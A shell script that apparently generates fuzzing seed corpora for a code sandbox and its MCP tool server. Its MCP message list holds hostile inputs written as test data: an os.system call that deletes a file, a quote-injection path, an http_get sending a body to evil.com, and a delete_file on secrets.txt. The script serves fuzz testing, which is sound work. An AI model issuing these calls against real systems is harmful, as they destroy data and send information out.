#!/bin/sh
# fuzz/seed.sh -- make the seed corpora for the fuzz targets.
#
#   fuzz/seed.sh SRCDIR OUTDIR
#
# OUTDIR/<target>/ gets one file per seed:
#   parse, session  every input of scenarios/*.scn (the part after "LABEL: "
#                   on a run line), the first column of tests/diff/cases.tsv
#                   and of tests/data/*.tsv, and tests/fuzz-regressions/*
#   scenario        every scenarios/*.scn whole
#   policy          a few policy files in the format of src/policy.c
#   jailwire        hand-made frames (refusal, wait + result + file + end)
#   mcp             MCP messages as clients send them, one per seed, each
#                   after a handshake (first byte '1') and without ('0')
set -eu
srcdir=${1:?usage: seed.sh SRCDIR OUTDIR}
out=${2:?usage: seed.sh SRCDIR OUTDIR}
for t in parse session scenario policy jailwire mcp; do mkdir -p "$out/$t"; done

# One seed file per line: awk names them after the source and line number.
split() {	# split PREFIX < lines
	awk -v dir1="$out/parse" -v dir2="$out/session" -v p="$1" '
	    length($0) > 0 {
		f1 = dir1 "/" p "-" NR; f2 = dir2 "/" p "-" NR
		print $0 > f1; close(f1); print $0 > f2; close(f2)
	    }'
}
for f in "$srcdir"/scenarios/*.scn; do
	cp "$f" "$out/scenario/"
	grep -E '^(all|unsafe|sandbox|jail)[a-z,]*( [^:]*)?: ' "$f" |
	    sed 's/^[^:]*: //' | split "$(basename "$f" .scn)"
done
for f in "$srcdir"/tests/diff/cases.tsv "$srcdir"/tests/data/*.tsv; do
	[ -f "$f" ] || continue
	grep -v "^#" "$f" | cut -f1 | head -300 | split "$(basename "$f" .tsv)"
done
if [ -d "$srcdir/tests/fuzz-regressions" ]; then
	for f in "$srcdir"/tests/fuzz-regressions/*; do
		[ -f "$f" ] && cp "$f" "$out/session/" && cp "$f" "$out/parse/"
	done
fi

printf 'extends: essay\nname: classroom\ncalls: sum len\nbudget: 20\n' >"$out/policy/p1"
printf 'extends: dunder\nnodes: Expression Constant Name BinOp Call keyword\noperators: + - * -u not\ncompare: == in not-in\nboolops: and or\ncall-rule: any\nnames: all\nattributes: public\nobject-model: yes\n' >"$out/policy/p2"
printf 'extends: blocklist\nblocked-words: import eval\ncommands: read_file write_file\nhosts: example.org\nmax-steps: 100\nmax-int-bits: 64\nmax-seq-len: 10\nmax-str-bytes: 100\nmax-depth: 5\n' >"$out/policy/p3"

# Frames: type, u32 length (little-endian, as on the build machines), payload.
printf 'R\010\000\000\000\001\000\000\000\001\000\000\000' >"$out/jailwire/refuse"
printf 'w\030\000\000\000\000\000\000\000\377\377\377\377\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000O\001\000\000\000rf\006\000\000\000\001\000\000\000a1E\000\000\000\000' >"$out/jailwire/ok"

# MCP messages: both eras, every tool, a few malformed ones.
n=0
while IFS= read -r m; do
	n=$((n + 1))
	printf '1%s\n' "$m" >"$out/mcp/handshake-$n"
	printf '0%s\n' "$m" >"$out/mcp/bare-$n"
done <<'END'
{"jsonrpc":"2.0","id":1,"method":"tools/list"}
{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"run_code","arguments":{"code":"round(sum(orders) / len(orders), 2)"}}}
{"jsonrpc":"2.0","id":3,"method":"tools/call","params":{"name":"run_code","arguments":{"code":"__import__('os').system('rm report.txt')","path":"unsafe"}}}
{"jsonrpc":"2.0","id":4,"method":"tools/call","params":{"name":"write_file","arguments":{"path":"out.txt","text":"ok","idempotency_key":"k"}}}
{"jsonrpc":"2.0","id":5,"method":"tools/call","params":{"name":"read_file","arguments":{"path":"x'}); ('"}}}
{"jsonrpc":"2.0","id":6,"method":"tools/call","params":{"name":"http_get","arguments":{"url":"https://evil.com/x","body":"s"}}}
{"jsonrpc":"2.0","id":7,"method":"tools/call","params":{"name":"list_files","arguments":{"x":1}}}
{"jsonrpc":"2.0","id":8,"method":"server/discover","params":{"_meta":{"io.modelcontextprotocol/protocolVersion":"2026-07-28","io.modelcontextprotocol/clientCapabilities":{}}}}
{"jsonrpc":"2.0","id":9,"method":"tools/call","params":{"name":"delete_file","arguments":{"path":"secrets.txt"},"_meta":{"io.modelcontextprotocol/protocolVersion":"2026-07-28","io.modelcontextprotocol/clientCapabilities":{}}}}
{"jsonrpc":"2.0","id":"a","method":"initialize","params":{"protocolVersion":"2024-11-05","capabilities":{}}}
{"jsonrpc":"2.0","method":"notifications/initialized"}
{"jsonrpc":"2.0","id":10,"result":{}}
[{"jsonrpc":"2.0","id":11,"method":"ping"}]
{"id":"cut","jsonrpc":"2.0","method":"tools/call","params":{"name":"write_file","arguments":{"path":"big","text":"AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"}}}
END
